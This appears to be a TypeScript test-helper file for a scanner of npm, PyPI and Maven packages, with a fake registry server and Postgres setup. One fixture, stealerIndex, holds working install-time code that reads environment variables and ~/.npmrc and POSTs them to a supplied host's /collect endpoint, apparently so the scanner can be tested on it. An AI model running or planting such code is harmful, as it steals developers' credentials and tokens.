import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import pg from 'pg';
import tar from 'tar-stream';
import { defaultConfig, type IndexConfig } from '../../src/service/config.js';

/** Builds a real npm tarball (`package/` prefix, gzip) from files. */
export async function npmTarball(files: Record<string, string>): Promise<Buffer> {
  return tarGz('package', files);
}

/** A gzip tar with every file under `root/`. */
export async function tarGz(root: string, files: Record<string, string>): Promise<Buffer> {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  pack.on('data', (c: unknown) => chunks.push(c as Buffer));
  const done = new Promise<void>((resolve, reject) => {
    pack.on('end', resolve);
    pack.on('error', reject);
  });
  for (const [name, body] of Object.entries(files)) {
    await new Promise<void>((resolve, reject) =>
      pack.entry({ name: `${root}/${name}`, mode: 0o644, mtime: new Date(0) }, body, (err) =>
        err ? reject(err) : resolve(),
      ),
    );
  }
  pack.finalize();
  await done;
  return gzipSync(Buffer.concat(chunks));
}

export const BENIGN_INDEX = `'use strict';
function leftPad(str, len, ch) {
  str = String(str);
  ch = ch === undefined ? ' ' : String(ch);
  while (str.length < len) str = ch + str;
  return str;
}
module.exports = leftPad;
`;

/** An install-time credential stealer: env + npmrc to a webhook. Only ever read by the scanner. */
export function stealerIndex(host: string, extra = ''): string {
  return `const os = require('os');
const fs = require('fs');
const https = require('https');
const path = require('path');
const data = JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username,
  npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') });
const req = https.request('https://${host}/collect', { method: 'POST' });
req.write(data);
req.end();
${extra}
`;
}

export interface PkgVersion {
  name: string;
  version: string;
  files: Record<string, string>;
  publishedAt: number;
  publisher?: string;
  scripts?: Record<string, string>;
}

interface Served {
  packument: Record<string, any>;
  tarballs: Map<string, Buffer>;
}

/**
 * A local stand-in for the registries: npm `_changes` (CouchDB replication API) + packuments +
 * tarballs, PyPI XML-RPC + RSS, Maven Central search listing. Feeds are replayed from lists.
 */
export class FakeRegistries {
  server!: http.Server;
  url = '';
  changes: Array<{ seq: number; id: string; deleted?: boolean }> = [];
  packages = new Map<string, Served>();
  pypiEvents: Array<[string, string | null, number, string, number]> = [];
  pypiXmlRpcDown = false;
  pypiRss: Array<{ name: string; version: string; at: number }> = [];
  mavenDocs: Array<{ g: string; a: string; v: string; timestamp: number }> = [];
  /** Tarball requests to fail with HTTP 503 before serving (per tarball path). */
  failTarball = new Map<string, number>();
  /** Tarball requests to hold (no answer) while the path is in this set. */
  holdTarball = new Set<string>();
  mavenFiles = new Map<string, Buffer>();
  pypiReleases = new Map<string, { json: Record<string, any>; file: Buffer; filename: string }>();
  hits = { changes: 0, packument: 0, tarball: 0, xmlrpc: 0, rss: 0, maven: 0 };
  private seq = 0;

  async start(): Promise<this> {
    this.server = http.createServer((req, res) => {
      this.handle(req, res).catch(() => {
        res.statusCode = 500;
        res.end();
      });
    });
    await new Promise<void>((r) => this.server.listen(0, '127.0.0.1', r));
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
    return this;
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise<void>((r) => this.server.close(() => r()));
  }

  get npmRegistry(): string {
    return `${this.url}/npm/`;
  }

  /** Publishes a version: packument + tarball, and a `_changes` row for its document. */
  async publish(v: PkgVersion): Promise<void> {
    const tgz = await npmTarball({
      'package.json': JSON.stringify({
        name: v.name,
        version: v.version,
        main: 'index.js',
        scripts: v.scripts ?? {},
      }),
      ...v.files,
    });
    const served = this.packages.get(v.name) ?? {
      packument: {
        name: v.name,
        'dist-tags': {},
        versions: {},
        time: { created: new Date(v.publishedAt).toISOString() },
      },
      tarballs: new Map<string, Buffer>(),
    };
    const file = `${v.name.replace('/', '%2f')}-${v.version}.tgz`;
    served.tarballs.set(file, tgz);
    served.packument.versions[v.version] = {
      name: v.name,
      version: v.version,
      scripts: v.scripts ?? {},
      _npmUser: { name: v.publisher ?? `${v.name.replace(/\W/g, '')}-author` },
      dist: {
        tarball: `${this.url}/npm/-/${file}`,
        integrity: `sha512-${createHash('sha512').update(tgz).digest('base64')}`,
      },
    };
    served.packument.time[v.version] = new Date(v.publishedAt).toISOString();
    served.packument['dist-tags'].latest = v.version;
    this.packages.set(v.name, served);
    this.changes.push({ seq: ++this.seq, id: v.name });
  }

  /** Publishes a PyPI sdist (JSON API release + file) and its changelog events. */
  async publishPypi(v: {
    name: string;
    version: string;
    files: Record<string, string>;
    at: number;
  }): Promise<void> {
    const root = `${v.name}-${v.version}`;
    const pkgInfo = `Metadata-Version: 2.1\nName: ${v.name}\nVersion: ${v.version}\nSummary: test package\n`;
    const data = await tarGz(root, { 'PKG-INFO': pkgInfo, ...v.files });
    const filename = `${root}.tar.gz`;
    this.pypiReleases.set(`${v.name}/${v.version}`, {
      filename,
      file: data,
      json: {
        info: { name: v.name, version: v.version, summary: 'test package' },
        urls: [
          {
            filename,
            packagetype: 'sdist',
            url: `${this.url}/pypi/files/${filename}`,
            digests: { sha256: createHash('sha256').update(data).digest('hex') },
            upload_time_iso_8601: new Date(v.at).toISOString(),
            yanked: false,
          },
        ],
      },
    });
    const serial = (this.pypiEvents[this.pypiEvents.length - 1]?.[4] ?? 1000) + 1;
    const ts = Math.floor(v.at / 1000);
    this.pypiEvents.push(
      [v.name, v.version, ts, 'new release', serial],
      [v.name, v.version, ts, `add source file ${filename}`, serial + 1],
    );
  }

  /** Publishes a Maven artifact (POM + jar + .sha1 files) and lists it in the search listing. */
  publishMaven(v: {
    g: string;
    a: string;
    v: string;
    pom: string;
    jarFiles: Record<string, string>;
    at: number;
  }): void {
    const dir = `/maven2/${v.g.replace(/\./g, '/')}/${v.a}/${v.v}/${v.a}-${v.v}`;
    const jar = Buffer.from(
      zipSync(Object.fromEntries(Object.entries(v.jarFiles).map(([k, body]) => [k, strToU8(body)]))),
    );
    const pom = Buffer.from(v.pom);
    for (const [ext, data] of [
      ['pom', pom],
      ['jar', jar],
    ] as const) {
      this.mavenFiles.set(`${dir}.${ext}`, data);
      this.mavenFiles.set(`${dir}.${ext}.sha1`, Buffer.from(createHash('sha1').update(data).digest('hex')));
    }
    this.mavenDocs.push({ g: v.g, a: v.a, v: v.v, timestamp: v.at });
  }

  private async handle(req: http.IncomingMessage, res: http.ServerResponse): Promise<void> {
    const u = new URL(req.url ?? '/', this.url);
    const json = (code: number, body: unknown) => {
      res.writeHead(code, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    };
    if (u.pathname === '/npm/_changes') {
      this.hits.changes++;
      const sinceRaw = u.searchParams.get('since') ?? '0';
      const head = this.changes.reduce((m, c) => Math.max(m, c.seq), 0);
      const since = sinceRaw === 'now' ? head : Number(sinceRaw);
      const limit = Number(u.searchParams.get('limit') ?? '1000');
      const results = this.changes.filter((c) => c.seq > since).slice(0, limit);
      const last = results.length ? results[results.length - 1]!.seq : since;
      return json(200, {
        results: results.map((c) => ({
          seq: c.seq,
          id: c.id,
          changes: [{ rev: `1-${c.seq}` }],
          ...(c.deleted ? { deleted: true } : {}),
        })),
        last_seq: last,
        pending: this.changes.filter((c) => c.seq > last).length,
      });
    }
    if (u.pathname.startsWith('/npm/-/')) {
      this.hits.tarball++;
      const file = u.pathname.slice('/npm/-/'.length);
      while (this.holdTarball.has(file) && !res.destroyed) await new Promise((r) => setTimeout(r, 20));
      const left = this.failTarball.get(file) ?? 0;
      if (left > 0) {
        this.failTarball.set(file, left - 1);
        res.writeHead(503);
        return void res.end();
      }
      for (const p of this.packages.values()) {
        const t = p.tarballs.get(file);
        if (t) {
          res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': t.length });
          return void res.end(t);
        }
      }
      return json(404, { error: 'not_found' });
    }
    if (u.pathname.startsWith('/npm/')) {
      this.hits.packument++;
      const name = decodeURIComponent(u.pathname.slice('/npm/'.length));
      const p = this.packages.get(name);
      return p ? json(200, p.packument) : json(404, { error: 'not_found' });
    }
    if (u.pathname === '/pypi/xmlrpc' && req.method === 'POST') {
      this.hits.xmlrpc++;
      const body = await new Promise<string>((resolve) => {
        let s = '';
        req.on('data', (c) => (s += c));
        req.on('end', () => resolve(s));
      });
      if (this.pypiXmlRpcDown) {
        res.writeHead(502);
        return void res.end('bad gateway');
      }
      const method = /<methodName>([^<]+)<\/methodName>/.exec(body)?.[1];
      const arg = Number(/<int>(-?\d+)<\/int>/.exec(body)?.[1] ?? '0');
      res.writeHead(200, { 'content-type': 'text/xml' });
      if (method === 'changelog_last_serial') {
        const last = this.pypiEvents.length ? this.pypiEvents[this.pypiEvents.length - 1]![4] : 0;
        return void res.end(
          `<?xml version='1.0'?><methodResponse><params><param><value><int>${last}</int></value></param></params></methodResponse>`,
        );
      }
      if (method !== 'changelog_since_serial') {
        return void res.end(
          `<?xml version='1.0'?><methodResponse><fault><value><struct><member><name>faultCode</name><value><int>-32601</int></value></member><member><name>faultString</name><value><string>no such method</string></value></member></struct></value></fault></methodResponse>`,
        );
      }
      const rows = this.pypiEvents
        .filter((e) => e[4] > arg)
        .map(
          (e) =>
            `<value><array><data><value><string>${e[0]}</string></value>${e[1] === null ? '<value><nil/></value>' : `<value><string>${e[1]}</string></value>`}<value><int>${e[2]}</int></value><value><string>${e[3]}</string></value><value><int>${e[4]}</int></value></data></array></value>`,
        )
        .join('');
      return void res.end(
        `<?xml version='1.0'?>\n<methodResponse>\n<params>\n<param>\n<value><array><data>\n${rows}\n</data></array></value>\n</param>\n</params>\n</methodResponse>\n`,
      );
    }
    const rel = /^\/pypi\/pypi\/([^/]+)\/([^/]+)\/json$/.exec(u.pathname);
    if (rel) {
      const r = this.pypiReleases.get(`${decodeURIComponent(rel[1]!)}/${decodeURIComponent(rel[2]!)}`);
      return r ? json(200, r.json) : json(404, { message: 'Not Found' });
    }
    if (u.pathname.startsWith('/pypi/files/')) {
      const name = u.pathname.slice('/pypi/files/'.length);
      for (const r of this.pypiReleases.values()) {
        if (r.filename === name) {
          res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': r.file.length });
          return void res.end(r.file);
        }
      }
      return json(404, { message: 'Not Found' });
    }
    if (u.pathname === '/pypi/rss/updates.xml') {
      this.hits.rss++;
      const items = this.pypiRss
        .map(
          (i) =>
            `<item><title>${i.name} ${i.version}</title><link>https://pypi.org/project/${i.name}/${i.version}/</link><description>x</description><author>a@example.org</author><pubDate>${new Date(i.at).toUTCString()}</pubDate></item>`,
        )
        .join('');
      res.writeHead(200, { 'content-type': 'text/xml' });
      return void res.end(
        `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>PyPI recent updates</title><link>https://pypi.org/</link><description>Recent updates</description>${items}</channel></rss>`,
      );
    }
    if (u.pathname.startsWith('/maven2/')) {
      const f = this.mavenFiles.get(u.pathname);
      if (!f) return json(404, { error: 'not found' });
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': f.length });
      return void res.end(f);
    }
    if (u.pathname === '/maven/solrsearch/select') {
      this.hits.maven++;
      const start = Number(u.searchParams.get('start') ?? '0');
      const rows = Number(u.searchParams.get('rows') ?? '20');
      const sorted = [...this.mavenDocs].sort((a, b) => b.timestamp - a.timestamp);
      return json(200, {
        responseHeader: { status: 0 },
        response: {
          numFound: sorted.length,
          start,
          docs: sorted
            .slice(start, start + rows)
            .map((d) => ({ id: `${d.g}:${d.a}:${d.v}`, ...d, p: 'jar', ec: ['.jar', '.pom'] })),
        },
      });
    }
    json(404, { error: 'not_found' });
  }
}

export function tempDir(): { dir: string; cleanup: () => void } {
  const dir = mkdtempSync(join(tmpdir(), 'beagle-index-'));
  return { dir, cleanup: () => rmSync(dir, { recursive: true, force: true }) };
}

/** An index config pointing every feed and registry at the fake servers. */
export function testConfig(
  reg: FakeRegistries,
  database: string,
  over: Partial<IndexConfig['worker']> = {},
): IndexConfig {
  const c = defaultConfig();
  c.database = database;
  c.registries = { npm: reg.npmRegistry, pypi: `${reg.url}/pypi/`, maven: `${reg.url}/maven2/` };
  c.feeds.npm = {
    enabled: true,
    changesUrl: `${reg.url}/npm/_changes`,
    since: '0',
    batchSize: 50,
    lookbackHours: 72,
  };
  c.feeds.pypi = {
    enabled: false,
    xmlrpcUrl: `${reg.url}/pypi/xmlrpc`,
    rssUrls: [`${reg.url}/pypi/rss/updates.xml`],
    since: '0',
    batchSize: 1000,
  };
  c.feeds.maven = { enabled: false, searchUrl: `${reg.url}/maven/solrsearch/select`, since: '0', rows: 20 };
  c.feeds.intervalMs = 100;
  c.worker = {
    concurrency: 2,
    threads: 0,
    leaseMs: 5000,
    maxAttempts: 3,
    retryBaseMs: 50,
    timeoutMs: 5000,
    pollMs: 50,
    ...over,
  };
  c.serve = { host: '127.0.0.1', port: 0 };
  return c;
}

export const PG_URL = process.env.BEAGLE_TEST_PG ?? 'postgres://postgres@127.0.0.1:5432/test';

/** Whether PostgreSQL answers; tests that need it skip with a message otherwise. */
export async function pgAvailable(): Promise<boolean> {
  const c = new pg.Client({ connectionString: PG_URL, connectionTimeoutMillis: 2000 });
  try {
    await c.connect();
    await c.query('SELECT 1');
    return true;
  } catch {
    return false;
  } finally {
    await c.end().catch(() => {});
  }
}

export function uniqueSchema(prefix = 'bgl_t'): string {
  return `${prefix}_${process.pid}_${Date.now().toString(36)}_${Math.floor(Math.random() * 1e6).toString(36)}`;
}

export async function dropSchemas(...schemas: string[]): Promise<void> {
  const c = new pg.Client({ connectionString: PG_URL });
  await c.connect();
  try {
    for (const s of schemas) await c.query(`DROP SCHEMA IF EXISTS ${s} CASCADE`);
  } finally {
    await c.end();
  }
}

export async function waitFor<T>(
  fn: () => Promise<T | undefined | false>,
  timeoutMs = 20_000,
  stepMs = 50,
): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > end) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, stepMs));
  }
}

export async function getJson(url: string): Promise<any> {
  const res = await fetch(url);
  return res.json();
}
